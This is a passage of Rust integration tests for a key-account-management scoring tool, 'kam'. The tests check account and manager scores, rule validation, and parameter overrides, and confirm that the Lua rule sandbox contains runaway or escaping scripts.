                (f, bytes)
            })
            .collect();
        assert!(
            files.len() > 800,
            "400 plans and 9 reviews in two formats: {}",
            files.len()
        );
        (files, manifest)
    };
    let read = |jobs: &str| read_with(jobs, true);
    assert_eq!(read("1"), read("2"));
    assert_eq!(read("2"), read("2"));
    assert_eq!(read("2"), read_with("2", false));
}

// ---------------------------------------------------------------------------------------------
// Rule engine (issue 3).

fn scores(r: &Run) -> serde_json::Value {
    serde_json::from_str(&r.file("scores.json")).expect("scores.json is JSON")
}

fn accounts_where(s: &serde_json::Value, pred: impl Fn(&serde_json::Value) -> bool) -> Vec<String> {
    s["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| pred(a))
        .map(|a| a["id"].as_str().unwrap().to_string())
        .collect()
}

fn account<'a>(s: &'a serde_json::Value, id: &str) -> &'a serde_json::Value {
    s["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == id)
        .unwrap_or_else(|| panic!("no account {id}"))
}

/// Expected values computed by tests/expected/key_clients_sample.py from the sample's CSV source
/// (not from kam's output), with the default pack's params.
#[test]
fn the_default_pack_on_the_sample_matches_the_independent_calculation() {
    let r = run(&["run"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let s = scores(&r);
    assert_eq!(s["schema"], "kam-scores/1");
    let p = &s["portfolio"];
    assert_eq!(p["basis"], "gross_profit");
    assert_eq!(p["total_gross_profit"], 10_000_000.0);
    assert_eq!(p["hhi"], 0.11593218);
    assert_eq!(p["hhi_10000"], 1159.3218);
    assert_eq!(p["top1_share"], 0.25);
    assert_eq!(p["top5_share"], 0.655);
    assert_eq!(p["pareto_accounts"], 8);
    assert_eq!(p["key_accounts"], 7);
    let band = |b: &str| accounts_where(&s, |a| a["band"] == b);
    assert_eq!(band("strategic"), ["A01", "A02", "A03"]);
    assert_eq!(band("key"), ["A06", "A15", "A16", "A29"]);
    assert_eq!(band("develop"), ["A05", "A09", "A10", "A13", "A22"]);
    assert_eq!(band("standard").len(), 18);
    assert_eq!(
        accounts_where(&s, |a| a["dependency"] == "critical"),
        ["A01"]
    );
    assert_eq!(
        accounts_where(&s, |a| a["dependency"] == "key"),
        ["A02", "A03"]
    );
    assert_eq!(
        accounts_where(&s, |a| a["dependency"] == "mono"),
        Vec::<String>::new()
    );
    // A04 has exactly 10 %: "share > threshold" is strict.
    assert_eq!(account(&s, "A04")["dependency"], "none");
    assert_eq!(
        accounts_where(&s, |a| a["abc"] == "A"),
        ["A01", "A02", "A03", "A04", "A05", "A06", "A07", "A08"]
    );
    assert_eq!(
        accounts_where(&s, |a| a["abc"] == "B"),
        ["A09", "A10", "A11", "A12", "A13", "A14", "A15"]
    );
    for (id, score, labels) in [
        ("A01", 70.0, vec!["big_money", "reference", "partner"]),
        (
            "A02",
            65.0,
            vec!["big_money", "reference", "more_competent"],
        ),
        ("A03", 75.0, vec!["big_money", "big_potential", "partner"]),
        ("A16", 35.0, vec!["partner", "more_competent", "innovator"]),
        ("A29", 35.0, vec!["big_potential", "reference"]),
        ("A30", 0.0, vec![]),
    ] {
        let a = account(&s, id);
        assert_eq!(a["score"], score, "{id}");
        assert_eq!(a["labels"], serde_json::json!(labels), "{id}");
    }
    // A01: 25 % of profit, rank 1, nothing before it.
    let a01 = account(&s, "A01");
    assert_eq!(a01["shares"]["share"], 0.25);
    assert_eq!(a01["shares"]["rank"], 1);
    assert_eq!(a01["shares"]["cum_share_before"], 0.0);
    assert_eq!(a01["pareto"], true);
    assert_eq!(a01["outputs"]["quadrant"], "strategic");
    let big = a01["contributions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["rule"] == "big_money")
        .unwrap();
    assert_eq!(big["points"], 40.0);
    assert_eq!(
        big["reason"],
        "25.0 % of our gross_profit (key above 10.0 %); gross profit 2500000"
    );
    assert_eq!(big["inputs"]["share"], "0.25");
    assert_eq!(big["cells"], serde_json::json!(["Accounts!H2"]));
    // K1 carries A01, A03, A15 and A29 as company-level key accounts: more than 3.
    let kams = s["kams"].as_array().unwrap();
    let k1 = kams.iter().find(|k| k["kam_id"] == "K1").unwrap();
    assert_eq!(k1["key_accounts"], 4);
    assert_eq!(
        k1["flags"][0]["reason"],
        "K1 carries 4 company-level key accounts (at most 3)"
    );
    assert!(
        kams.iter()
            .filter(|k| k["kam_id"] != "K1")
            .all(|k| k["flags"].as_array().unwrap().is_empty())
    );
    assert_eq!(s["errors"], 0);
    assert_says(
        &r,
        "7 key accounts (strategic 3, key 4, develop 5, standard 18); 0 rule errors",
    );
}

#[test]
fn explain_prints_the_whole_trace() {
    let o = kam().args(["explain", "A03"]).output().unwrap();
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    insta::assert_snapshot!("explain_a03", String::from_utf8(o.stdout).unwrap());
    let o = kam().args(["explain", "A3"]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&o.stderr)
            .contains("no account `A3` in kam-sample.xlsx (embedded); did you mean `A03`?")
    );
}

#[test]
fn tracing_does_not_change_results() {
    let plain = scores(&run(&["run"]));
    let traced = scores(&run(&["run", "--trace"]));
    let strip = |s: &serde_json::Value| -> Vec<serde_json::Value> {
        s["accounts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| {
                serde_json::json!([
                    a["id"],
                    a["score"],
                    a["band"],
                    a["labels"],
                    a["outputs"],
                    a["measures"],
                    a["shares"]
                ])
            })
            .collect()
    };
    assert_eq!(strip(&plain), strip(&traced));
    let n = |s: &serde_json::Value| {
        s["accounts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["contributions"].as_array().unwrap().len())
            .sum::<usize>()
    };
    assert!(
        n(&traced) > n(&plain),
        "the trace records the rules that did not match too"
    );
}

#[test]
fn pack_tests_run_with_kam_test() {
    let o = kam().arg("test").output().unwrap();
    assert_eq!(o.status.code(), Some(0));
    let out = String::from_utf8(o.stdout).unwrap();
    assert!(out.ends_with("31 passed, 0 failed\n"), "{out}");
    let o = kam()
        .arg("test")
        .arg(fixture("rules/failing-test"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8(o.stdout).unwrap();
    assert!(
        out.contains("FAILED  failing :: expects the wrong band"),
        "{out}"
    );
    assert!(
        out.contains("        band: expected top, got rest\n        score: expected 10, got 0\n"),
        "{out}"
    );
    assert!(
        out.contains("ok      failing :: a case beside the pack"),
        "{out}"
    );
    assert!(out.ends_with("2 passed, 1 failed\n"), "{out}");
}

/// The shipped packs' own tests, inside `cargo test`.
#[test]
fn shipped_pack_tests_pass() {
    let rules = kam::rules::load(None, &[]).unwrap();
    let outcomes = kam::score::testing::run(&rules);
    assert!(outcomes.len() >= 30);
    for o in outcomes {
        assert!(
            o.failures.is_empty(),
            "{} :: {}: {:?}",
            o.pack,
            o.name,
            o.failures
        );
    }
}

#[test]
fn hostile_scripts_fail_per_account_and_the_run_finishes() {
    let rules = fixture("rules/hostile");
    let r = run(&["run", "--rules", rules.to_str().unwrap()]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let s = scores(&r);
    let lua = format!("{}/hostile.lua", rules.display());
    let expected = [
        (
            "spin",
            format!("Lua spin: {lua}:1: instruction budget of 200000 exceeded (an endless loop?)"),
        ),
        (
            "pcall_spin",
            format!(
                "Lua pcall_spin: {lua}:3: instruction budget of 200000 exceeded (an endless loop?)"
            ),
        ),
        (
            "memory_bomb",
            format!("Lua memory_bomb: {lua}:5: in function memory_bomb: memory limit exceeded"),
        ),
        (
            "use_io",
            format!("Lua use_io: {lua}:10: attempt to index a nil value (global 'io')"),
        ),
        (
            "use_os",
            format!("Lua use_os: {lua}:11: attempt to index a nil value (global 'os')"),
        ),
        (
            "use_require",
            format!(
                "Lua use_require: {lua}:12: in function use_require: require: no module `os` among the rules folder's Lua files"
            ),
        ),
        (
            "use_load",
            format!("Lua use_load: {lua}:13: attempt to call a nil value (global 'load')"),
        ),
        (
            "use_dofile",
            format!("Lua use_dofile: {lua}:14: attempt to call a nil value (global 'dofile')"),
        ),
        (
            "use_dump",
            format!("Lua use_dump: {lua}:15: attempt to call a nil value (field 'dump')"),
        ),
        (
            "tamper_lib",
            format!(
                "Lua tamper_lib: {lua}:16: string is read-only in kam rules (tried to set upper)"
            ),
        ),
        (
            "tamper_meta",
            format!("Lua tamper_meta: {lua}:17: attempt to index a boolean value"),
        ),
        (
            "slow_churn",
            format!(
                "Lua slow_churn: {lua}:25: time budget of 100 ms per call exceeded (raise limits.time_ms if the script is meant to be this slow)"
            ),
        ),
    ];
    for a in s["accounts"].as_array().unwrap() {
        let errors: Vec<(String, String)> = a["errors"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                (
                    e["rule"].as_str().unwrap().to_string(),
                    e["message"].as_str().unwrap().to_string(),
                )
            })
            .collect();
        let want: Vec<(String, String)> = expected
            .iter()
            .map(|(r, m)| (r.to_string(), m.clone()))
            .collect();
        assert_eq!(errors, want, "account {}", a["id"]);
        // Globals and upvalues never carry over to the next account; the plain rule still scores.
        assert_eq!(
            a["labels"],
            serde_json::json!(["scored"]),
            "account {}",
            a["id"]
        );
    }
    assert_says(&r, "kam:   rule error: account A01: rule spin: Lua spin:");
    assert!(!Path::new("/tmp/kam-pwned").exists());
    let strict = run(&["run", "--strict", "--rules", rules.to_str().unwrap()]);
    assert_eq!(strict.code, 1);
}

#[test]
fn a_rule_error_is_recorded_for_the_account_not_taken_for_no_match() {
    let rules = fixture("rules/type-error");
    let r = run(&["run", "--rules", rules.to_str().unwrap()]);
    assert_eq!(r.code, 0);
    let s = scores(&r);
    let a01 = account(&s, "A01");
    assert_eq!(
        a01["errors"][0]["message"],
        "cannot apply `+` to text 'Manufacturing' and number 1"
    );
    let c = a01["contributions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["rule"] == "bad_sum")
        .unwrap();
    assert_eq!(c["outcome"], "error");
    assert_eq!(
        a01["labels"],
        serde_json::json!(["big"]),
        "the other rules still run"
    );
    assert_eq!(
        run(&["run", "--strict", "--rules", rules.to_str().unwrap()]).code,
        1
    );
    let ff = run(&["run", "--fail-fast", "--rules", rules.to_str().unwrap()]);
    assert_eq!(ff.code, 2);
    assert_eq!(
        ff.stderr,
        "error: stopped at the first problem (--fail-fast): kam-sample.xlsx (embedded): account A01: rule bad_sum: cannot apply `+` to text 'Manufacturing' and number 1\n"
    );
    assert!(!ff.out.exists());
}

#[test]
fn validate_reports_every_problem_with_its_line() {
    let check = |dir: &str| -> String {
        let o = kam()
            .args(["validate", "--rules"])
            .arg(fixture(dir))
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "{dir}");
        String::from_utf8(o.stderr)
            .unwrap()
            .replace(&fixture("").display().to_string(), "[fixtures]/")
    };
    let e = check("rules/bad-yaml");
    assert!(
        e.contains("[fixtures]/rules/bad-yaml/pack.yaml: unknown field `critera`"),
        "{e}"
    );
    assert!(
        e.contains(
            "pack.yaml:5:1\n  |\n5 | critera:\n  | ^^^^^^^\n  = hint: did you mean `criteria`?"
        ),
        "{e}"
    );
    assert!(
        e.ends_with("\n1 problem in the rules\n"),
        "a pack that cannot be parsed hides the checks that depend on it: {e}"
    );
    let e = check("rules/bad-meaning");
    assert!(
        e.contains("default: key_share must be between 0 and 1, not 1.5"),
        "{e}"
    );
    assert!(
        e.contains(
            "table `tier` row 2 can never decide: row 1 above it always matches (hit policy first)"
        ),
        "{e}"
    );
    assert!(e.contains("`shares` is not a field, fact, param or measure criterion `big` can read\n  --> [fixtures]/rules/bad-meaning/pack.yaml:15:11\n   |\n15 |     when: shares > key_share\n   |           ^^^^^^\n  = hint: did you mean `share`?"), "{e}");
    assert!(e.contains("`strategic_fit` is not a field"), "{e}");
    assert!(
        e.contains("if it is a column of your workbook, pass the workbook: kam validate WORKBOOK"),
        "{e}"
    );
    assert!(e.ends_with("4 problems in the rules\n"), "{e}");
    let e = check("rules/bad-lua");
    assert!(e.contains("broken.lua: Lua: 'then' expected near 'return'\n --> [fixtures]/rules/bad-lua/broken.lua:3:5\n  |\n3 |     return true\n  |     ^^^^^^^^^^^"), "{e}");
    let o = kam().arg("validate").output().unwrap();
    assert_eq!(o.status.code(), Some(0));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.starts_with(
            "rules OK: 2 packs (<embedded>/key-clients.yaml, <embedded>/kam-performance.yaml)"
        ),
        "{out}"
    );
    assert!(out.contains("\nKAM rules: "), "{out}");
    // With the workbook, a column it has is a name rules can read.
    let o = kam()
        .args(["validate", "--rules"])
        .arg(fixture("rules/bad-meaning"))
        .arg(fixture("valid/foreign.xlsx"))
        .output()
        .unwrap();
    let e = String::from_utf8_lossy(&o.stderr);
    assert!(!e.contains("`strategic_fit` is not a field"), "{e}");
}

#[test]
fn set_changes_a_param_for_one_run_and_checks_it() {
    let base = scores(&run_file("valid/foreign.xlsx", &[]));
    assert_eq!(
        accounts_where(&base, |a| a["labels"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l == "big_money")),
        ["C-001", "C-002", "C-003"]
    );
    let what_if = scores(&run_file(
        "valid/foreign.xlsx",
        &["--set", "key_share=0.25"],
    ));
    assert_eq!(
        accounts_where(&what_if, |a| a["labels"]
            .as_array()
            .unwrap()
            .iter()
            .any(|l| l == "big_money")),
        ["C-001"]
    );
    assert_eq!(what_if["params"]["key_share"], "0.25");
    let bad = run(&["run", "--set", "key_share=1.5"]);
    assert_eq!(bad.code, 2);
    assert_eq!(
        bad.stderr,
        "error: --set key_share=1.5: key_share must be between 0 and 1, not 1.5\n1 problem in the rules\n"
    );
    let typo = run(&["run", "--set", "key_shar=0.2"]);
    assert_says(
        &typo,
        "there is no param `key_shar`\n  = hint: did you mean `key_share`?",
    );
}

/// The same binary, changed rules: a threshold, a YAML criterion on a workbook's own column and
/// a criterion in a new Lua file.
#[test]
fn rules_change_without_recompiling() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    kam().arg("init").arg(&rules).assert().success();
    let yaml_path = rules.join("key-clients.yaml");
    let yaml = fs::read_to_string(&yaml_path).unwrap();
    let yaml = yaml.replacen(
        "  key_share:\n    default: 0.10\n",
        "  key_share:\n    default: 0.25\n",
        1,
    );
    let yaml = yaml.replacen(
        "pack: key-clients\n",
        "pack: key-clients\nlua: [ours.lua]\n",
        1,
    );
    let yaml = yaml.replacen(
        "\nbands:\n",
        "  - id: strategic_fit\n    when: strategic_fit >= 4\n    points: 5\n    label: fits_our_strategy\n    reason: \"strategic fit {strategic_fit}\"\n  - id: big_wallet\n    lua: big_wallet\n    points: 3\n    label: big_wallet\n\nbands:\n",
        1,
    );
    fs::write(&yaml_path, yaml).unwrap();
    fs::write(
        rules.join("ours.lua"),
        "function big_wallet(account, ctx)\n  return (account.wallet or 0) > 800000\nend\n",
    )
    .unwrap();
    let has = |s: &serde_json::Value, label: &str| {
        accounts_where(s, |a| {
            a["labels"].as_array().unwrap().iter().any(|l| l == label)
        })
    };
    let changed = scores(&run_file(
        "valid/foreign.xlsx",
        &["--rules", rules.to_str().unwrap()],
    ));
    assert_eq!(has(&changed, "big_money"), ["C-001"]);
    assert_eq!(has(&changed, "fits_our_strategy"), ["C-001", "C-003"]);
    assert_eq!(has(&changed, "big_wallet"), ["C-001", "C-003"]);
    let c3 = account(&changed, "C-003");
    let fit = c3["contributions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["rule"] == "strategic_fit")
        .unwrap();
    assert_eq!(fit["reason"], "strategic fit 4");
    assert_eq!(fit["cells"], serde_json::json!(["'CRM Export'!H6"]));
    let default = scores(&run_file("valid/foreign.xlsx", &[]));
    assert_eq!(has(&default, "fits_our_strategy"), Vec::<String>::new());
    // `kam init` refuses to overwrite edited rules.
    let o = kam().arg("init").arg(&rules).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
}

#[test]
fn a_workbook_column_named_like_a_param_is_refused() {
    let r = run_file("invalid/name-clash.xlsx", &[]);
    assert_eq!(r.code, 2);
    assert_eq!(
        r.stderr,
        "error: the workbook's column `key_share` has the same name as a param, measure or table output of the rules, so rules could not tell them apart\n  = hint: rename the column in the workbook, leave it out with `ignore:` in a mapping file, or rename the rule name\n1 problem in the rules\n"
    );
    assert!(!r.out.exists());
}

fn manager<'a>(s: &'a serde_json::Value, id: &str) -> &'a serde_json::Value {
    s["managers"]["kams"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["kam_id"] == id)
        .unwrap_or_else(|| panic!("no KAM {id}"))
}

fn observed(k: &serde_json::Value) -> Vec<String> {
    k["mistakes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["status"] == "observed")
        .map(|m| m["id"].as_str().unwrap().to_string())
        .collect()
}

fn cells(metric: &serde_json::Value) -> Vec<String> {
    metric["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["cell"].as_str().unwrap().to_string())
        .collect()
}

/// The five KAMs of the sample, pinned against tests/expected/kam_performance_sample.py, which
/// computes them by hand from the sample's CSV source (not from kam's output).
#[test]
fn the_kam_pack_on_the_sample_matches_the_independent_calculation() {
    let r = run(&["run"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_says(
        &r,
        "kam:   5 KAMs judged for 2026: K1 excellent, K4 needs attention, K5 needs attention, K2 needs attention, K3 needs attention",
    );
    let s = scores(&r);
    let m = &s["managers"];
    assert_eq!(m["period"]["label"], "2026");
    assert_eq!(m["period"]["start"], "2026-01-01");
    assert_eq!(m["period"]["end"], "2026-12-31");
    assert_eq!(m["period"]["previous_start"], "2025-01-01");
    assert_eq!(m["period"]["as_of"], "2026-09-28");
    assert_eq!(
        m["ranking"],
        serde_json::json!(["K1", "K4", "K5", "K2", "K3"])
    );
    // (id, score, plan attainment, key people covered/rows, late/timed, without agenda,
    //  overdue follow-ups, tenders prepared late, pay, suggested level, style)
    let expected = [
        (
            "K1",
            63.0,
            1.1,
            (9, 9),
            (3, 4),
            3,
            Some(2.0),
            Some(0.0),
            Some(53750.0),
            "D4",
            "delegating",
        ),
        (
            "K2",
            12.0,
            0.887857143,
            (0, 3),
            (0, 3),
            0,
            Some(0.0),
            Some(1.0),
            None,
            "D2",
            "coaching",
        ),
        (
            "K3",
            -8.0,
            0.9575,
            (0, 2),
            (1, 2),
            1,
            Some(1.0),
            Some(1.0),
            Some(40000.0),
            "D2",
            "coaching",
        ),
        (
            "K4",
            22.0,
            1.142,
            (0, 1),
            (0, 1),
            0,
            Some(0.0),
            None,
            Some(5000.0),
            "D2",
            "coaching",
        ),
        (
            "K5",
            21.0,
            1.1975,
            (0, 1),
            (0, 1),
            0,
            Some(0.0),
            None,
            Some(60000.0),
            "D2",
            "coaching",
        ),
    ];
    for (id, score, plan, people, late, agenda, overdue, tenders_late, pay, level, style) in
        expected
    {
        let k = manager(&s, id);
        let mt = &k["metrics"];
        assert_eq!(k["score"], score, "{id}");
        assert_eq!(k["measures"]["plan_attainment"], plan, "{id}");
        assert_eq!(mt["key_people_covered"]["value"], people.0 as f64, "{id}");
        assert_eq!(mt["key_people_covered"]["rows"], people.1, "{id}");
        assert_eq!(mt["late_meetings"]["value"], late.0 as f64, "{id}");
        assert_eq!(mt["late_meetings"]["rows"], late.1, "{id}");
        assert_eq!(
            mt["meetings_without_agenda"]["value"], agenda as f64,
            "{id}"
        );
        assert_eq!(
            mt["overdue_follow_ups"]["value"],
            serde_json::json!(overdue),
            "{id}"
        );
        assert_eq!(
            mt["tenders_prepared_late"]["value"],
            serde_json::json!(tenders_late),
            "{id}"
        );
        assert_eq!(k["pay"]["total"], serde_json::json!(pay), "{id}");
        assert_eq!(k["level"]["suggested"], level, "{id}");
        assert_eq!(k["level"]["style"], style, "{id}");
    }
    // The methodology's example (late mornings, thin paperwork, every key person covered,
    // excellent outcomes) ranks above perfect process with poor outcomes.
    let (k1, k2) = (manager(&s, "K1"), manager(&s, "K2"));
    assert_eq!(k1["rank"], 1);
    assert!(k1["score"].as_f64() > k2["score"].as_f64());
    assert_eq!(
        observed(k1),
        [
            "lateness",
            "missing_information",
            "insufficient_preparation"
        ]
    );
    assert!(observed(k2).is_empty());
    assert_eq!(k1["level"]["recorded"], "D3");
    assert_eq!(k2["level"]["recorded"], "D4");
    assert_eq!(
        observed(manager(&s, "K3")),
        [
            "lateness",
            "arguing",
            "interrupting",
            "missing_information",
            "insufficient_preparation"
        ]
    );
    assert_eq!(
        observed(manager(&s, "K5")),
        [
            "missing_information",
            "bad_manners",
            "weak_product_knowledge"
        ]
    );
    // Every finding cites its rows.
    assert_eq!(
        cells(&k1["metrics"]["late_meetings"]),
        ["Activities!A2", "Activities!A3", "Activities!A7"]
    );
    // Each row's finding is in scores.json with --trace (and always in the review).
    assert_eq!(
        k1["metrics"]["late_meetings"]["evidence"][0],
        serde_json::json!({"account": "A01", "cell": "Activities!A2"})
    );
    let traced = scores(&run(&["run", "--trace"]));
    assert_eq!(
        manager(&traced, "K1")["metrics"]["late_meetings"]["evidence"][0]["reason"],
        "25 minutes late to the meeting with Caspian Steel JSC on 2026-03-10 (more than 10)"
    );
    assert!(r.file("reviews/k1.md").contains(
        "25 minutes late to the meeting with Caspian Steel JSC on 2026-03-10 (more than 10)"
    ));
    assert_eq!(
        cells(&k1["metrics"]["overdue_follow_ups"]),
        ["Activities!A4", "Activities!A11"]
    );
    assert_eq!(
        cells(&k2["metrics"]["tenders_prepared_late"]),
        ["Tenders!A3"]
    );
    assert_eq!(
        cells(&manager(&s, "K4")["metrics"]["late_follow_ups"]),
        ["Activities!A24"]
    );
    let lateness = &k1["mistakes"][0];
    assert_eq!(
        lateness["reason"],
        "late to 3 of 4 timed meetings (more than 10 minutes)"
    );
    assert_eq!(lateness["evidence"], serde_json::json!(["late_meetings"]));
    assert_eq!(lateness["evidence_rows"], 3);
    // Pay, deal by deal.
    let deals = manager(&s, "K5")["pay"]["deals"].clone();
    assert_eq!(deals[0]["rule"], "large_deal");
    assert_eq!(deals[0]["cell"], "Activities!A30");
    assert_eq!(deals[0]["pay"], 60000.0);
    assert_eq!(manager(&s, "K3")["pay"]["deals"][0]["rule"], "medium_deal");
    // The tender outside the period (A29, 2027) is ignored and counted.
    assert_eq!(k1["activities"]["tenders_outside_period"], 1);
    // Dossier gaps are named per account.
    let a03 = k1["dossier"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["account"] == "A03")
        .unwrap();
    assert_eq!(a03["completeness"], 0.4);
    assert_eq!(a03["gaps"][0], "history");
    assert_eq!(
        a03["gaps"][2],
        "Sevinj Babayeva: birthday, hobbies, family, values"
    );
    assert_eq!(s["errors"], 0);
}

#[test]
fn kam_thresholds_and_commission_bands_change_with_set_and_yaml() {
    let base = scores(&run(&["run"]));
    let with = |args: &[&str]| {
        let mut all = vec!["run"];
        all.extend_from_slice(args);
        let r = run(&all);
        assert_eq!(r.code, 0, "{}", r.stderr);
        scores(&r)
    };
    let k4 =
        |s: &serde_json::Value| manager(s, "K4")["metrics"]["late_follow_ups"]["value"].clone();
    assert_eq!(k4(&base), 1.0);
    assert_eq!(k4(&with(&["--set", "follow_up_days=2"])), 0.0);
    let k2 = |s: &serde_json::Value| {
        manager(s, "K2")["metrics"]["tenders_prepared_late"]["value"].clone()
    };
    assert_eq!(k2(&base), 1.0);
    assert_eq!(k2(&with(&["--set", "tender_prep_months=2"])), 0.0);
    let k5 = |s: &serde_json::Value| manager(s, "K5")["pay"]["total"].clone();
    assert_eq!(k5(&base), 60000.0);
    // Above the large-deal line the KAM's own rate (12 %) applies.
    assert_eq!(k5(&with(&["--set", "large_deal_from=2000000"])), 144000.0);
    assert_eq!(k5(&with(&["--set", "large_deal_rate=0.04"])), 48000.0);
    // The same through the YAML, with the same binary.
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    let o = kam().arg("init").arg(&rules).output().unwrap();
    assert_eq!(o.status.code(), Some(0));
    let pack = rules.join("kam-performance.yaml");
    let text = fs::read_to_string(&pack).unwrap();
    let text = text.replace(
        "  tender_prep_months:\n    default: 9",
        "  tender_prep_months:\n    default: 2",
    );
    fs::write(&pack, text).unwrap();
    let s = with(&["--rules", rules.to_str().unwrap()]);
    assert_eq!(k2(&s), 0.0);
    // A bad value is refused before anything runs.
    let r = run(&["run", "--set", "period=2026-Q5"]);
    assert_eq!(r.code, 2);
    assert_says(
        &r,
        "period must be `auto`, `all`, a year (`2026`), a half (`2026-H2`) or a quarter (`2026-Q3`), not `2026-Q5`",
    );
}

/// `--timings` names each part of the KAM metrics, parts that add up to no more than the
/// whole; a run without a KAM pack prints no such line.
#[test]
fn timings_name_each_part_of_the_kam_metrics() {
    let r = run(&["run", "--timings", "--quiet", "--no-plans"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let number = |text: &str| -> f64 {
        text.split_whitespace()
            .next()
            .and_then(|n| n.parse().ok())
            .unwrap_or_else(|| panic!("no number in `{text}`"))
    };
    let whole = number(
        r.stderr
            .split_once("(of which KAM metrics ")
            .unwrap_or_else(|| panic!("{}", r.stderr))
            .1,
    );
    let line = r
        .stderr
        .lines()
        .find_map(|l| l.strip_prefix("kam: timings: KAM metrics by part: "))
        .unwrap_or_else(|| panic!("{}", r.stderr));
    let parts: Vec<(&str, f64)> = line
        .split(", ")
        .map(|p| {
            let (name, rest) = p.split_once(' ').unwrap();
            assert!(rest.ends_with(" s"), "{line}");
            (name, number(rest))
        })
        .collect();
    let names: Vec<&str> = parts.iter().map(|p| p.0).collect();
    assert_eq!(
        names,
        [
            "context",
            "activities",
            "contacts",
            "tenders",
            "accounts",
            "judging"
        ]
    );
    let sum: f64 = parts.iter().map(|p| p.1).sum();
    // Each figure is rounded to the millisecond.
    assert!(sum <= whole + 0.004, "{sum} > {whole}: {}", r.stderr);
    // Without a KAM pack.
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules");
    kam().arg("init").arg(&rules).assert().success();
    for pack in ["kam-performance.yaml", "kam-performance.tests.yaml"] {
        fs::remove_file(rules.join(pack)).unwrap();
    }
    let r = run(&[
        "run",
        "--timings",
        "--quiet",
        "--no-plans",
        "--rules",
        rules.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_says(&r, "(of which KAM metrics 0.000 s)");
    assert!(!r.stderr.contains("by part"), "{}", r.stderr);
}

#[test]
fn a_quarter_ignores_and_counts_what_falls_outside() {
    let s = scores(&run(&["run", "--set", "period=2026-Q2"]));
    assert_eq!(s["managers"]["period"]["previous_start"], "2026-01-01");
    assert_eq!(s["managers"]["period"]["as_of"], "2026-06-30");
    let k1 = manager(&s, "K1");
    // K1's Q2 meetings: A01 on 06-09 (40 min late), A03 on 04-14 (15), A09 on 05-20 (1).
    assert_eq!(k1["metrics"]["late_meetings"]["value"], 2.0);
    assert_eq!(k1["metrics"]["late_meetings"]["rows"], 3);
    assert_eq!(k1["activities"]["in_period"], 5);
    assert_eq!(k1["activities"]["outside_period"], 5);
}

#[test]
fn explain_kam_prints_the_whole_trace() {
    let o = kam().args(["explain", "--kam", "K1"]).output().unwrap();
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    insta::assert_snapshot!("explain_kam_k1", String::from_utf8(o.stdout).unwrap());
    let o = kam().args(["explain", "--kam", "K7"]).output().unwrap();
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        String::from_utf8_lossy(&o.stderr),
        "error: no KAM `K7` in kam-sample.xlsx (embedded); did you mean `K1`?\n"
    );
    // With a workbook as the only positional.
    let o = kam()
        .args(["explain", "--kam", "K2"])
        .arg(fixture("valid/kam-sample.ods"))
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.starts_with("KAM K2 — "),
        "{out}{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

#[test]
fn kam_pack_problems_are_reported_with_their_lines() {
    let o = kam()
        .args(["validate", "--rules"])
        .arg(fixture("rules/bad-kam"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
    let e = String::from_utf8_lossy(&o.stderr)
        .replace(&fixture("").display().to_string(), "[fixtures]/");
    assert!(e.contains("metric `late`: `over` must be activities, contacts, tenders or accounts, not `activity`\n --> [fixtures]/rules/bad-kam/kams.yaml:7:11"), "{e}");
    assert!(
        e.contains("metric `both` needs exactly one of count, sum, avg, min or max"),
        "{e}"
    );
    assert!(e.contains("mistake `lateness`: evidence names `lat`, which is not a metric\n  --> [fixtures]/rules/bad-kam/kams.yaml:21:16"), "{e}");
    assert!(e.contains("`minuteslate` is not a field, fact, param or measure metric `early` (over activities) can read\n  --> [fixtures]/rules/bad-kam/kams.yaml:12:12\n   |\n12 |     count: minuteslate < 0\n   |            ^^^^^^^^^^^\n  = hint: did you mean `minutes_late`?"), "{e}");
    let o = kam()
        .arg("test")
        .arg(fixture("rules/kam-failing"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8(o.stdout).unwrap();
    assert!(
        out.contains("ok      kams :: counts a late meeting"),
        "{out}"
    );
    assert!(
        out.contains("FAILED  kams :: expects the wrong count"),
        "{out}"
    );
    assert!(
        out.contains(
            "        late: expected 1, got 0\n        evidence of late: expected 1 row, got 0 ()\n"
        ),
        "{out}"
    );
    assert!(
        out.contains("        activities[1]: unknown field `dte`; did you mean `date`?\n"),
        "{out}"
    );
    assert!(out.ends_with("1 passed, 2 failed\n"), "{out}");
}

#[test]
fn kam_packs_can_use_lua() {
    let o = kam()
        .arg("test")
        .arg(fixture("rules/kam-lua"))
        .output()
        .unwrap();
    let out = String::from_utf8(o.stdout).unwrap();
